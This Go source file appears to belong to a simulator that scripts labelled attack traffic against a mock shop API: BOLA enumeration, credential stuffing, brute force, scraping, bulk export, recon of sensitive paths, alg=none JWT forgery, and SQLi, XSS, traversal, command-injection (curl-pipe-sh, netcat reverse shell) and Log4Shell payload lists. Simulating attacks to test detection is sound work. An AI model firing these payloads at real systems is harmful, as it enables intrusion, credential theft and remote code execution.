package scenario

import (
	"fmt"
	"math"
	"net/http"
	"net/url"
	"strings"
	"time"
)

// The attacks. Each runs from its own client; requests sent while
// s.phase is set are the attack's (a setup such as the attacker's own
// login is not). Volumes are for Volume 1 and scale with it.

// plan places an attack of n requests at mean gap gap after a setup of
// about setup: it returns when the client starts and the gap to use,
// shortened when the attack would not fit in the scenario.
func (w *world) plan(c *clientSpec, n int, gap, setup time.Duration) (start, g time.Duration) {
	return w.planAfter(c, n, gap, setup, w.o.Duration/20)
}

// planAfter is plan with the earliest start.
func (w *world) planAfter(c *clientSpec, n int, gap, setup, earliest time.Duration) (start, g time.Duration) {
	c.planned = n
	r := rng(w.seed, "plan/"+c.attack, 0)
	d := w.o.Duration
	lo, hi := earliest, d*88/100
	avail := hi - lo - setup
	g = gap
	if dur := time.Duration(n) * g; dur > avail*85/100 {
		g = avail * 85 / 100 / time.Duration(n)
	}
	slack := avail - time.Duration(n)*g
	start = lo + time.Duration(r.Float64()*float64(slack))
	return start, g
}

// count scales a base request count by Volume.
func (w *world) count(base int) int { return max(3, int(math.Round(float64(base)*w.o.Volume))) }

// step waits for the attack's next request: the requests follow a
// timeline of jittered gaps from the first, whatever each one took (a
// sleep of less than a millisecond of real time lasts about one, and a
// request a fraction of one), with at most a second of virtual time of
// backlog. False when the scenario ends.
func (s *session) step(gap time.Duration) bool {
	now := s.offset()
	if s.next == 0 {
		s.next = now
	}
	s.next = max(s.next+s.jitter(gap, 0.6), now-time.Second)
	return s.until(s.next)
}

// pauseMedian is an attacker's typical pause between its setup requests
// (its login, a look at its own account): short in a short scenario.
func pauseMedian(d time.Duration) time.Duration { return min(1500*time.Millisecond, d/100) }

// setupPause is an attacker's pause between its setup requests, at most
// twice pauseMedian.
func (s *session) setupPause() bool {
	m := pauseMedian(s.run.duration)
	return s.sleep(s.lognormal(m, 0.4, m/3, 2*m))
}

// setupTime bounds a setup of a login and two pauses.
func (w *world) setupTime() time.Duration { return 4*pauseMedian(w.o.Duration) + time.Second }

func (w *world) bola(c *clientSpec) {
	n := w.count(300)
	start, gap := w.plan(c, n, 350*time.Millisecond, w.setupTime())
	r := rng(w.seed, "variant/"+c.attack, 0)
	lo, hi := w.d.firstAccount, w.d.lastAccount
	var ids []int
	if r.IntN(2) == 0 {
		first := lo + r.IntN(max(1, hi-lo-n))
		for i := range n {
			ids = append(ids, first+i)
		}
		c.detail = fmt.Sprintf("walks account ids %d..%d in order", ids[0], ids[len(ids)-1])
	} else {
		for range n {
			ids = append(ids, lo+r.IntN(hi-lo+1))
		}
		c.detail = fmt.Sprintf("tries %d random account ids in [%d, %d]", n, lo, hi)
	}
	c.script = func(s *session) {
		u := c.user
		if !s.until(start) || !s.login(u.Username, u.Password) || !s.setupPause() {
			return
		}
		s.get(fmt.Sprintf("/api/v1/accounts/%d", u.Accounts[0]))
		if !s.setupPause() {
			return
		}
		s.phase = c.attack
		for _, id := range ids {
			s.call("GET", fmt.Sprintf("/api/v1/accounts/%d", id), nil, nil)
			if !s.step(gap) {
				return
			}
		}
	}
}

func (w *world) credentialStuffing(c *clientSpec, victims []*user) {
	n := w.count(200)
	start, gap := w.plan(c, n, 300*time.Millisecond, 0)
	r := rng(w.seed, "variant/"+c.attack, 0)
	type combo struct{ user, pass string }
	combos := make([]combo, n)
	hits := 0
	for i := range combos {
		switch k := r.IntN(100); {
		case k < 78: // a leaked address that has no account here
			combos[i] = combo{fmt.Sprintf("%s%s%s%d@%s", pick(r, firstNames), pick(r, []string{".", "_", ""}), pick(r, lastNames), r.IntN(100), pick(r, mailDomains)), password(r)}
		case k < 97 || len(victims) == 0: // a customer's address with an old password
			v := pick(r, victims)
			combos[i] = combo{v.Email, password(r)}
		default: // reused password: the attacker gets in
			v := pick(r, victims)
			combos[i] = combo{v.Email, v.Password}
			hits++
		}
	}
	c.detail = fmt.Sprintf("%d e-mail/password pairs from a leak, %d of them valid here", n, hits)
	uas := browserUAs
	c.script = func(s *session) {
		if !s.until(start) {
			return
		}
		s.phase = c.attack
		for i, cb := range combos {
			ua := uas[i%len(uas)] // a stuffing tool rotates user agents
			body := fmt.Appendf(nil, `{"username":%q,"password":%q}`, cb.user, cb.pass)
			s.call("POST", "/api/v1/login", body, func(h http.Header) { h.Set("User-Agent", ua) })
			if !s.step(gap) {
				return
			}
		}
	}
}

var commonPasswords = []string{"123456", "password", "123456789", "12345678", "qwerty", "abc123", "password1",
	"111111", "letmein", "welcome", "monkey", "dragon", "iloveyou", "admin", "admin123", "sunshine", "princess",
	"football", "baseball", "master", "shadow", "superman", "trustno1", "Passw0rd", "P@ssw0rd", "Welcome1",
	"Summer2024!", "Winter2023!", "Spring2024", "qwerty123", "1q2w3e4r", "zaq12wsx", "changeme", "secret"}

func (w *world) bruteForce(c *clientSpec, target *user) {
	n := w.count(150)
	start, gap := w.plan(c, n, 450*time.Millisecond, 0)
	r := rng(w.seed, "variant/"+c.attack, 0)
	var tries []string
	for i := range n {
		p := commonPasswords[i%len(commonPasswords)]
		if i >= len(commonPasswords) {
			p = fmt.Sprintf("%s%d", commonPasswords[r.IntN(len(commonPasswords))], 1990+r.IntN(36))
		}
		tries = append(tries, p)
	}
	success := r.IntN(2) == 0
	if success {
		tries[n-1] = target.Password
	}
	c.detail = fmt.Sprintf("%d passwords against %q (last one right: %v)", n, target.Username, success)
	c.script = func(s *session) {
		if !s.until(start) {
			return
		}
		s.phase = c.attack
		for _, p := range tries {
			s.postJSON("/api/v1/login", map[string]string{"username": target.Username, "password": p})
			if !s.step(gap) {
				return
			}
		}
	}
}

func (w *world) rateAbuse(c *clientSpec) {
	n := w.count(900)
	r := rng(w.seed, "variant/"+c.attack, 0)
	gap := time.Duration(60+r.IntN(90)) * time.Millisecond
	start, gap := w.plan(c, n, gap, 0)
	size := pick(r, []int{20, 50, 100})
	pages := (len(w.d.products) + size - 1) / size
	c.detail = fmt.Sprintf("%d catalogue pages of %d at ~%.0f/s", n, size, float64(time.Second)/float64(gap))
	c.script = func(s *session) {
		if !s.until(start) {
			return
		}
		s.phase = c.attack
		sorts := []string{"", "price", "-price", "rating", "new"}
		for i := range n {
			q := url.Values{}
			q.Set("page", fmt.Sprint(1+i%pages))
			q.Set("page_size", fmt.Sprint(size))
			if so := sorts[(i/pages)%len(sorts)]; so != "" {
				q.Set("sort", so)
			}
			s.call("GET", "/api/v1/products?"+q.Encode(), nil, nil)
			if !s.step(gap) {
				return
			}
		}
	}
}

// injection payloads, by family.
var (
	sqli = []string{`' OR '1'='1`, `' OR 1=1--`, `1' UNION SELECT username,password FROM users--`, `1; DROP TABLE orders;--`,
		`admin'--`, `1 AND SLEEP(5)`, `' AND 1=CONVERT(int,(SELECT @@version))--`, `1' ORDER BY 10--`,
		`"; WAITFOR DELAY '0:0:5'--`, `' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables--`,
		`1) OR pg_sleep(5)--`, `' OR ''='`}
	xss = []string{`<script>alert(document.cookie)</script>`, `"><img src=x onerror=alert(1)>`, `javascript:alert(1)`,
		`<svg/onload=alert(1)>`, `'"><iframe src=javascript:alert(1)>`, `<body onload=alert('xss')>`}
	traversal = []string{`../../../../etc/passwd`, `..%2f..%2f..%2fetc%2fpasswd`, `....//....//....//etc/passwd`,
		`..\..\..\windows\win.ini`, `/etc/shadow`, `%2e%2e%2f%2e%2e%2fetc%2fhosts`}
	cmdi = []string{`;cat /etc/passwd`, `| id`, `$(whoami)`, "`uname -a`", `&& curl http://203.0.113.50/x.sh | sh`,
		`; nc -e /bin/sh 198.51.100.23 4444`, `|| ping -c 10 127.0.0.1`}
	jndi = []string{`${jndi:ldap://198.51.100.23:1389/Exploit}`, `${jndi:dns://x7k2.oast.example/a}`,
		`${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://198.51.100.23/o}`, `${jndi:rmi://203.0.113.9:1099/obj}`}
	ssti = []string{`{{7*7}}`, `${7*7}`, `<%= 7*7 %>`, `{{config.items()}}`}
)

func (w *world) injection(c *clientSpec) {
	n := w.count(80)
	start, gap := w.plan(c, n, 700*time.Millisecond, w.setupTime())
	r := rng(w.seed, "variant/"+c.attack, 0)
	families := [][]string{sqli, xss, traversal, cmdi, jndi, ssti}
	type probe struct {
		method, target string
		body           []byte
		ua             string // replaces the user agent when set
	}
	probes := make([]probe, n)
	acc := c.user.Accounts[0]
	for i := range probes {
		fam := families[r.IntN(len(families))]
		p := pick(r, fam)
		qe := url.QueryEscape(p)
		switch r.IntN(10) {
		case 0, 1:
			probes[i] = probe{method: "GET", target: "/api/v1/search?q=" + qe}
		case 2:
			probes[i] = probe{method: "GET", target: "/api/v1/products?q=" + qe}
		case 3:
			probes[i] = probe{method: "GET", target: "/api/v1/products?page=1&sort=" + qe}
		case 4:
			probes[i] = probe{method: "GET", target: "/api/v1/export?fmt=" + qe}
		case 5: // in the path, escaped (a traversal stays in one segment)
			base := pick(r, []string{"/api/v1/products/", "/api/v1/accounts/", "/api/v1/reports/"})
			if _, err := url.PathUnescape(p); err == nil && strings.Contains(p, "%") { // already encoded
				probes[i] = probe{method: "GET", target: base + p}
			} else {
				probes[i] = probe{method: "GET", target: base + url.PathEscape(p)}
			}
		case 6:
			b := fmt.Appendf(nil, `{"username":%q,"password":%q}`, p, pick(r, sqli))
			if r.IntN(3) == 0 {
				b = []byte(`{"username":"admin","password":{"$ne":null}}`)
			}
			probes[i] = probe{method: "POST", target: "/api/v1/login", body: b}
		case 7:
			probes[i] = probe{method: "POST", target: "/api/v1/orders",
				body: fmt.Appendf(nil, `{"account_id":%q,"items":[{"product_id":1,"quantity":1}]}`, fmt.Sprint(acc)+" "+p)}
		case 8:
			probes[i] = probe{method: "POST", target: "/api/v1/orders",
				body: fmt.Appendf(nil, `{"account_id":%d,"items":[{"product_id":%q,"quantity":1}],"note":%q}`, acc, "1"+p, pick(r, xss))}
		case 9: // Log4Shell in a header, with a harmless request
			probes[i] = probe{method: "GET", target: "/api/v1/search?q=" + url.QueryEscape(pick(r, searchWords)), ua: pick(r, jndi)}
		}
	}
	c.detail = fmt.Sprintf("%d SQLi/XSS/traversal/command/JNDI/SSTI payloads in queries, paths, JSON bodies and the User-Agent", n)
	c.script = func(s *session) {
		u := c.user
		if !s.until(start) || !s.login(u.Username, u.Password) || !s.setupPause() {
			return
		}
		s.phase = c.attack
		for _, p := range probes {
			var hdr func(http.Header)
			if p.ua != "" {
				hdr = func(h http.Header) { h.Set("User-Agent", p.ua) }
			}
			s.call(p.method, p.target, p.body, hdr)
			if !s.step(gap) {
				return
			}
		}
	}
}

func (w *world) unauthenticated(c *clientSpec) {
	n := w.count(40)
	// In the second half: by then the users have fetched many reports with
	// their tokens (the endpoint's normal, authenticated use).
	start, gap := w.planAfter(c, n, 1500*time.Millisecond, 0, w.o.Duration*55/100)
	r := rng(w.seed, "variant/"+c.attack, 0)
	first := 1 + r.IntN(w.d.nReports/2)
	c.detail = fmt.Sprintf("fetches /api/v1/reports/{id} from id %d without credentials", first)
	c.script = func(s *session) {
		if !s.until(start) {
			return
		}
		s.phase = c.attack
		for i := range n {
			s.call("GET", fmt.Sprintf("/api/v1/reports/%d", 1+(first-1+i)%w.d.nReports), nil, nil)
			if !s.step(gap) {
				return
			}
		}
	}
}

func (w *world) exfiltration(c *clientSpec) {
	n := w.count(20)
	start, gap := w.plan(c, n, 5*time.Second, w.setupTime())
	r := rng(w.seed, "variant/"+c.attack, 0)
	limit := pick(r, []int{5000, 5000, 10000})
	pages := (w.d.nCustomers + limit - 1) / limit
	c.detail = fmt.Sprintf("%d exports of %d customer records (e-mail, phone) each", n, limit)
	c.script = func(s *session) {
		u := c.user
		if !s.until(start) || !s.login(u.Username, u.Password) || !s.setupPause() {
			return
		}
		s.get(fmt.Sprintf("/api/v1/export?fmt=csv&limit=%d", 50)) // what a user does
		if !s.setupPause() {
			return
		}
		s.phase = c.attack
		for i := range n {
			f := "csv"
			if i%3 == 2 {
				f = "json"
			}
			s.call("GET", fmt.Sprintf("/api/v1/export?fmt=%s&limit=%d&page=%d", f, limit, 1+i%pages), nil, nil)
			if !s.step(gap) {
				return
			}
		}
	}
}

// reconPaths are what scanners look for.
var reconPaths = []string{"admin.php", "administrator/", "wp-login.php", "wp-admin/", "xmlrpc.php", ".env", ".env.local",
	".env.production", ".git/config", ".git/HEAD", ".svn/entries", ".DS_Store", "phpmyadmin/", "pma/", "phpinfo.php",
	"server-status", "server-info", "config.json", "config.yml", "config.php", "backup.zip", "backup.sql", "dump.sql",
	"db.sql", "database.sql", "web.config", ".htaccess", ".htpasswd", "actuator", "actuator/env", "actuator/heapdump",
	"actuator/health", "console", "jmx-console/", "manager/html", "solr/admin/", "jenkins/login", "graphql",
	"graphiql", "api/graphql", "swagger.json", "swagger-ui.html", "api-docs", "v2/api-docs", "v3/api-docs",
	"openapi.json", "api/swagger.json", "api/v1/swagger.json", "api/v1/debug", "api/v1/debug/vars", "debug/pprof/",
	"api/v1/users", "api/v1/admin", "api/v1/config", "api/v1/internal", "api/v2/users", "api/internal/metrics",
	"metrics", "telescope/requests", "_profiler/", "elmah.axd", "trace.axd", ".aws/credentials", ".ssh/id_rsa",
	"id_rsa", "credentials.json", "secrets.json", "cgi-bin/test.cgi", "cgi-bin/luci", "boaform/admin/formLogin",
	"HNAP1/", "owa/auth/logon.aspx", "remote/login", "vpn/index.html", "login.action", "struts2-showcase/",
	"autodiscover/autodiscover.xml", "ecp/", "vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "shell.php",
	"cmd.php", "upload.php", "uploads/", "files/", "storage/logs/laravel.log", "logs/error.log", "error_log",
	"info.php", "test.php", "old/", "dev/", "staging/", "beta/", "api/v1/login.php", "login.jsp", "admin/login",
	"user/login", "_next/static/chunks/main.js", "static/js/main.js", "sitemap.xml", "robots.txt", "crossdomain.xml"}

func (w *world) recon(c *clientSpec) {
	n := w.count(300)
	r := rng(w.seed, "variant/"+c.attack, 0)
	start, gap := w.plan(c, n, time.Duration(40+r.IntN(60))*time.Millisecond, 0)
	type probe struct{ method, target string }
	var probes []probe
	suffixes := []string{"", ".bak", ".old", "~", ".orig", ".save", ".swp", ".tar.gz"}
	prefixes := []string{"/", "/api/", "/api/v1/", "/static/", "/v1/"}
	seen := map[string]bool{}
	for len(probes) < n {
		p := pick(r, reconPaths)
		target := "/" + p
		if len(probes) >= len(reconPaths) || r.IntN(3) == 0 {
			target = pick(r, prefixes) + p + pick(r, suffixes)
		}
		if seen[target] && len(seen) < 3000 {
			continue
		}
		seen[target] = true
		method := "GET"
		switch k := r.IntN(40); {
		case k == 0:
			method = "POST"
		case k == 1:
			method = "HEAD"
		case k == 2: // a route's path with another method: 405
			probes = append(probes, probe{pick(r, []string{"PUT", "DELETE", "PATCH"}), pick(r, []string{"/api/v1/products", "/api/v1/login", "/api/v1/search", "/healthz"})})
			continue
		}
		probes = append(probes, probe{method, target})
	}
	c.detail = fmt.Sprintf("%d probes of well-known paths at ~%.0f/s", n, float64(time.Second)/float64(gap))
	ua := pick(r, []string{"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
		"gobuster/3.6", "Fuzz Faster U Fool v2.1.0-dev", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36 nuclei"})
	c.ua = ua
	c.script = func(s *session) {
		if !s.until(start) {
			return
		}
		s.phase = c.attack
		for _, p := range probes {
			s.call(p.method, p.target, nil, nil)
			if !s.step(gap) {
				return
			}
		}
	}
}

func (w *world) privilegeEscalation(c *clientSpec) {
	n := w.count(30)
	start, gap := w.plan(c, n, 2*time.Second, w.setupTime())
	r := rng(w.seed, "variant/"+c.attack, 0)
	forged := 0
	type probe struct {
		method, target string
		forge          bool
	}
	probes := make([]probe, n)
	for i := range probes {
		switch k := r.IntN(10); {
		case k < 4:
			probes[i] = probe{"GET", fmt.Sprintf("/api/v1/admin/users?page=%d", 1+r.IntN(3)), false}
		case k < 5:
			probes[i] = probe{"GET", "/api/v1/admin/users?role=admin", false}
		case k < 9:
			probes[i] = probe{"DELETE", fmt.Sprintf("/api/v1/admin/users/%d", 1+r.IntN(len(w.d.users))), false}
		default: // a token edited to claim the admin role, unsigned
			probes[i] = probe{pick(r, []string{"GET", "DELETE"}), "/api/v1/admin/users", true}
			if probes[i].method == "DELETE" {
				probes[i].target = fmt.Sprintf("/api/v1/admin/users/%d", 1+r.IntN(len(w.d.users)))
			}
			forged++
		}
	}
	c.detail = fmt.Sprintf("a user calls the admin endpoints %d times (%d with a forged alg=none admin token)", n, forged)
	c.script = func(s *session) {
		u := c.user
		if !s.until(start) || !s.login(u.Username, u.Password) || !s.setupPause() {
			return
		}
		s.get(fmt.Sprintf("/api/v1/accounts/%d", u.Accounts[0]))
		if !s.setupPause() {
			return
		}
		now := s.run.clk.now()
		fake := w.d.sign(`{"alg":"none","typ":"JWT"}`, claims{Iss: issuer, Sub: u.Username, Aud: "shop-api", UID: u.ID,
			Role: "admin", Scope: "shop:read shop:write admin", Iat: now.Unix(), Exp: now.Add(tokenTTL).Unix()})
		fake = fake[:strings.LastIndexByte(fake, '.')+1] // no signature
		s.phase = c.attack
		for _, p := range probes {
			var hdr func(http.Header)
			if p.forge {
				hdr = func(h http.Header) { h.Set("Authorization", "Bearer "+fake) }
			}
			s.call(p.method, p.target, nil, hdr)
			if !s.step(gap) {
				return
			}
		}
	}
}

func (w *world) authFailureBurst(c *clientSpec) {
	n := w.count(80)
	r := rng(w.seed, "variant/"+c.attack, 0)
	warm := 3 + r.IntN(4)
	warmGap := min(6*time.Second, w.o.Duration/25)
	start, gap := w.plan(c, n, 200*time.Millisecond, time.Duration(warm)*warmGap*7/5+w.setupTime())
	c.detail = fmt.Sprintf("an app uses its account's orders %d times, then retries them %d times in a tight loop with an expired token (401)", warm, n)
	c.script = func(s *session) {
		u := c.user
		acc := u.Accounts[0]
		target := fmt.Sprintf("/api/v1/accounts/%d/orders", acc)
		if !s.until(start) || !s.login(u.Username, u.Password) {
			return
		}
		for range warm {
			if !s.sleep(s.jitter(warmGap, 0.4)) {
				return
			}
			s.get(target)
		}
		if !s.setupPause() {
			return
		}
		// The token the app kept from an earlier session.
		s.token = w.d.token(u, s.run.clk.now().Add(-tokenTTL-time.Duration(1+r.IntN(30))*time.Minute), tokenTTL, uint64(r.Uint32()))
		s.phase = c.attack
		for range n {
			s.call("GET", target, nil, nil)
			if !s.step(gap) {
				return
			}
		}
	}
}

// errorBurst sets the server's fault window.
func (w *world) errorBurst() faultSpec {
	d := w.o.Duration
	win := time.Duration(float64(30*time.Second) * w.o.Volume)
	win = max(10*time.Second, min(win, d*3/10))
	r := rng(w.seed, "plan/"+ErrorBurst, 0)
	from := d/10 + time.Duration(r.Float64()*float64(d*85/100-d/10-win))
	return faultSpec{route: "GET /api/v1/products/{id}", from: from, to: from + win}
}
